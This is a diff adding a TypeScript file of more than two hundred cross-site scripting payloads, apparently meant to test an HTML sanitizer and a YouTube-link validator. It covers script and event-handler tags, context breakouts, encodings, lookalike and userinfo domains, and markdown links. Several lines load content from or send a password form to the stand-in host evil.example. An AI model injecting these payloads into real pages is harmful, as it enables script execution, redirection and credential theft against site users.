@@ -1,0 +1,221 @@
+/** What every payload calls when it runs. */
+const call = 'alert(1)';
+
+const elements = [
+  `<script>${call}</script>`,
+  `<script src=//evil.example></script>`,
+  `<script nonce="">${call}</script>`,
+  `<script type=module>${call}</script>`,
+  `<ScRiPt>${call}</sCrIpT>`,
+  `<script\x0c>${call}</script>`,
+  `<script/x>${call}</script>`,
+  `<scr<script>ipt>${call}</scr</script>ipt>`,
+  `<<script>${call}//<</script>`,
+  `<img src=x onerror=${call}>`,
+  `<img src=x onerror="${call}" id=xss>`,
+  `<img/src=x/onerror=${call}>`,
+  `<img src=x onerror=\`${call}\`>`,
+  `<img src="javascript:${call}">`,
+  `<img srcset=x onerror=${call}>`,
+  `<image href=x onerror=${call}>`,
+  `<svg onload=${call}>`,
+  `<svg/onload=${call}//`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><a href="javascript:${call}"><text>x</text></a></svg>`,
+  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  `<svg><set attributeName=href to=javascript:${call}>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>">`,
+  `<math><mtext><mglyph><style><img src=x onerror=${call}>`,
+  `<math href="javascript:${call}">x</math>`,
+  `<iframe src="javascript:${call}">`,
+  `<iframe srcdoc="<script>parent.${call}</script>">`,
+  `<iframe src=//evil.example>`,
+  `<object data="javascript:${call}">`,
+  `<object data=//evil.example>`,
+  `<embed src="javascript:${call}">`,
+  `<base href=//evil.example/>`,
+  `<link rel=stylesheet href=//evil.example>`,
+  `<link rel=import href=//evil.example>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+  `<meta http-equiv=refresh content="0;url=//evil.example">`,
+  `<form action=//evil.example><input name=password>`,
+  `<form><button formaction="javascript:${call}">x`,
+  `<input autofocus onfocus=${call}>`,
+  `<select autofocus onfocus=${call}>`,
+  `<textarea autofocus onfocus=${call}>`,
+  `<details open ontoggle=${call}>`,
+  `<video><source onerror=${call}>`,
+  `<video src=x onerror=${call}>`,
+  `<audio src=x onerror=${call}>`,
+  `<body onload=${call}>`,
+  `<body onpageshow=${call}>`,
+  `<marquee onstart=${call}>`,
+  `<div onpointerover=${call} id=xss>x</div>`,
+  `<div style="animation-name:x" onanimationstart=${call}>`,
+  `<div style="background:url(javascript:${call})">`,
+  `<div style="position:fixed;inset:0" id=xss>`,
+  `<style>@import '//evil.example';</style>`,
+  `<style>*{background:url(//evil.example)}</style>`,
+  `<a href="javascript:${call}" id=xss>x</a>`,
+  `<a href="data:text/html,<script>${call}</script>" id=xss>x</a>`,
+  `<template><script>${call}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  `<xss id=xss onfocus=${call} tabindex=1 autofocus>`,
+  `<dialog open onclose=${call} id=xss>`,
+  `<portal src="javascript:${call}">`,
+  `<isindex type=image src=x onerror=${call}>`,
+  `<slot name=xss onslotchange=${call}>`,
+];
+
+/** Ways out of what a text may stand in: an attribute, a script, a style, a title, a comment, JSON. */
+const waysOut = [
+  '">',
+  "'>",
+  '`>',
+  '</title>',
+  '</textarea>',
+  '</script>',
+  '</style>',
+  '</pre>',
+  '-->',
+  '--!>',
+  ']]>',
+  '</script\n>',
+  '</ScRiPt >',
+  '\\"></script>',
+  '</noscript>',
+  '</svg>',
+  '</template>',
+  '\u2028</script>',
+];
+
+const attributes = [
+  `" onmouseover=${call} x="`,
+  `' onmouseover=${call} x='`,
+  `" autofocus onfocus=${call} x="`,
+  `" onfocus=${call} autofocus id=xss "`,
+  `x" style="x:expression(${call})`,
+  `"onclick="${call}`,
+  `\` onmouseover=${call}`,
+];
+
+const scripts = [
+  `";${call};//`,
+  `';${call};//`,
+  `\`;${call};//`,
+  `\\";${call};//`,
+  `\\u0022;${call};//`,
+  `\${${call}}`,
+  `{{constructor.constructor('${call}')()}}`,
+  `*/${call}/*`,
+  `\u2028${call}//`,
+  `\n${call}//`,
+  `"});${call};({"`,
+  `"]\\n");${call}//`,
+  `__proto__`,
+  `{"__html":"<img src=x onerror=${call}>"}`,
+  `{"$$typeof":"react.element","type":"script"}`,
+];
+
+const encoded = [
+  `&lt;script&gt;${call}&lt;/script&gt;`,
+  `&#60;script&#62;${call}&#60;/script&#62;`,
+  `&#x3c;img src=x onerror=${call}&#x3e;`,
+  `%3Cscript%3E${call}%3C/script%3E`,
+  `%253Cscript%253E${call}`,
+  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
+  `\\x3cscript\\x3e${call}`,
+  `＜script＞${call}＜/script＞`,
+  `\u00abscript\u00bb${call}`,
+  `+ADw-script+AD4-${call}`,
+  `\u202e>tpircs/<${call}>tpircs<`,
+  `<scr\u0000ipt>${call}</script>`.replace('\u0000', '\ufffd'),
+  `<s\u200bcript>${call}</script>`,
+];
+
+/** Addresses that run, or lead elsewhere, where a link is made of them. */
+export const hostileAddresses = [
+  `javascript:${call}`,
+  `JaVaScRiPt:${call}`,
+  `java\tscript:${call}`,
+  `java\nscript:${call}`,
+  ` javascript:${call}`,
+  `\u0001javascript:${call}`,
+  `javascript://%0a${call}`,
+  `javascript://youtube.com/%0a${call}`,
+  `javascript:/*https://www.youtube.com/watch?v=x*/${call}`,
+  `javascript&colon;${call}`,
+  `javascript&#58;${call}`,
+  `&#106;avascript:${call}`,
+  `vbscript:${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `blob:https://evil.example/x`,
+  `//evil.example/youtube.com/watch?v=x`,
+  `https://evil.example/?https://www.youtube.com/watch?v=x`,
+  `https://evil.example/#https://youtu.be/x`,
+  `https://youtube.com.evil.example/watch?v=x`,
+  `https://www.youtube.com@evil.example/watch?v=x`,
+  `https://www.youtube.com%2f@evil.example/`,
+  `https://www.youtube.com\\@evil.example/`,
+  `https://youtube.com:443@evil.example/watch`,
+  `https://evilyoutube.com/watch?v=x`,
+  `https://youtu.be.evil.example/x`,
+  `https://youtube-nocookie.com.evil.example/embed/x`,
+  `https://www.youtubе.com/watch?v=x`,
+  `https://уoutube.com/watch?v=x`,
+  `https://www。youtube。com.evil.example/x`,
+  `https:\\\\www.youtube.com\\watch?v=x`,
+  `https:www.youtube.com/watch?v=x`,
+  `ftp://www.youtube.com/watch?v=x`,
+  `www.youtube.com/watch?v=x`,
+  `https://www.youtube.com/watch?v=x"><script>${call}</script>`,
+  `https://www.youtube.com/watch?v=x' onclick=${call}`,
+  `https://www.youtube.com/watch?v=x <img src=x>`,
+  `https://www.youtube.com/`,
+  `https://studio.youtube.com.evil.example/x`,
+  `https://www.youtube.com:8443/watch?v=x`,
+];
+
+const markdown = [
+  ...hostileAddresses.slice(0, 18).map((address) => `[xss](${address})`),
+  `[xss](<javascript:${call}>)`,
+  `![x](javascript:${call})`,
+  `![x](https://evil.example/pixel.png)`,
+  `![x"onerror="${call}](x)`,
+  `<javascript:${call}>`,
+  `[x]: javascript:${call}\n[x]`,
+  `[xss](https://evil.example "onmouseover=${call}")`,
+  `\`\`\`html\n<script>${call}</script>\n\`\`\``,
+  `**<img src=x onerror=${call}>**`,
+  `| <script>${call}</script> |\n|---|`,
+  `<details/open/ontoggle=${call}>`,
+  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `<!--><img src=x onerror=${call}>-->`,
+];
+
+/** More than two hundred texts that run in a page that does not know them for texts. */
+export const payloads: readonly string[] = [
+  ...elements,
+  ...waysOut.flatMap((way) => [`${way}<img src=x onerror=${call}>`, `${way}<script>${call}</script>`]),
+  ...attributes,
+  ...scripts,
+  ...encoded,
+  ...hostileAddresses,
+  ...markdown,
+];
+
+/** The payloads put together to texts of at most so many letters; each stands whole in one of them. */
+export function packed(most: number, between = '\n'): string[] {
+  const texts: string[] = [];
+  let text = '';
+  for (const payload of payloads) {
+    if (text.length + between.length + payload.length > most) {
+      texts.push(text);
+      text = '';
+    }
+    text += text === '' ? payload : between + payload;
+  }
+  return [...texts, text];
+}
